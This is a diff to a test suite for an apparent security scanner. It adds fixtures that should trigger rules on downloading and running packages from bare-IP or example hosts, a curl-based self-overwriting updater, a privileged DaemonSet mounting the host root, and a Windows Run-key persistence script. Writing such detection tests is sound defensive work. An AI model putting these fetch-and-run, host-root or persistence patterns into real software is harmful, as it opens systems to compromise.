@@ -52,6 +52,9 @@ describe("package runners and installers pointed at a host that is not a registr
     const s = scanOf({ "scripts/deps.js": "const { execFileSync } = require('child_process');\nconst EXTRAS = ['http://198.51.100.14/pkgs/fast-json-2.0.0.tgz'];\nfunction npmInstall(spec) {\n  execFileSync('npm', ['install', '--no-save', spec], { stdio: 'inherit' });\n}\nfor (const spec of EXTRAS) npmInstall(spec);\n" });
     expect(rules(s)).toContain("SR-DLEXEC-008");
   });
+  it("pip pointed at an index on a bare public address over plain http is a download run", () => {
+    expect(rules(scanOf({ "Makefile": "deps:\n\tpip install --index-url http://198.51.100.40/simple fastjson\n" }))).toContain("SR-DLEXEC-008");
+  });
   it("bunx of a tarball URL in a shell script is a download run", () => {
     expect(rules(scanOf({ "run.sh": "#!/bin/sh\nbunx https://cdn.toolz-builds.example/lint-fix-3.1.0.tgz --write src\n" }))).toContain("SR-DLEXEC-008");
   });
@@ -156,6 +159,21 @@ describe("dangerous capabilities are reviewed", () => {
   });
   it("a pickle fetched with requests and loaded", () => {
     expect(rules(scanOf({ "load.py": "import pickle, requests, sys\nopen('m.pkl', 'wb').write(requests.get(sys.argv[1]).content)\nclf = pickle.load(open('m.pkl', 'rb'))\n" }))).toContain("SR-DLEXEC-010");
+  });
+  it("a DaemonSet running privileged with the node's root as a volume", () => {
+    expect(rules(scanOf({ "deploy/agent.yaml": "apiVersion: apps/v1\nkind: DaemonSet\nmetadata:\n  name: node-agent\nspec:\n  template:\n    spec:\n      containers:\n        - name: agent\n          image: ghcr.io/acme/agent:1\n          securityContext:\n            privileged: true\n          volumeMounts: [{ name: root, mountPath: /node }]\n      volumes:\n        - name: root\n          hostPath:\n            path: /\n" }))).toContain("SR-PRIV-009");
+  });
+  it("a bash updater that moves a fresh download over itself", () => {
+    expect(rules(scanOf({ "bin/notes": "#!/bin/bash\nif [ \"$1\" = upgrade ]; then\n  t=$(mktemp)\n  curl -fsSL https://gitea.example.net/me/notes/raw/main/notes -o \"$t\"\n  mv \"$t\" \"$0\"\nfi\n" }))).toContain("SR-SUPPLY-008");
+  });
+  it("a Python script that writes a Run key", () => {
+    expect(rules(scanOf({ "persist.py": "import winreg, sys\nk = winreg.OpenKey(winreg.HKEY_CURRENT_USER, r\"Software\\Microsoft\\Windows\\CurrentVersion\\Run\", 0, winreg.KEY_SET_VALUE)\nwinreg.SetValueEx(k, \"notes\", 0, winreg.REG_SZ, sys.executable + \" -m notes\")\n" }))).toContain("SR-PERSIST-010");
+  });
+  it("honest: a log collector with /var/log, a Run key only read", () => {
+    atMostMedium(scanOf({
+      "deploy/logs.yaml": "kind: DaemonSet\nspec:\n  template:\n    spec:\n      containers:\n        - name: logs\n          image: fluent/fluent-bit:3.0\n          securityContext:\n            privileged: true\n      volumes:\n        - name: varlog\n          hostPath:\n            path: /var/log\n",
+      "check.py": "import winreg\nk = winreg.OpenKey(winreg.HKEY_CURRENT_USER, r\"Software\\Microsoft\\Windows\\CurrentVersion\\Run\")\nprint(winreg.QueryValueEx(k, \"OneDrive\"))\n",
+    }));
   });
   it("honest: TLS daemon, a named service account, a read-only mount, a fixed-command tool, a verified update, weights-only load", () => {
     atMostMedium(scanOf({
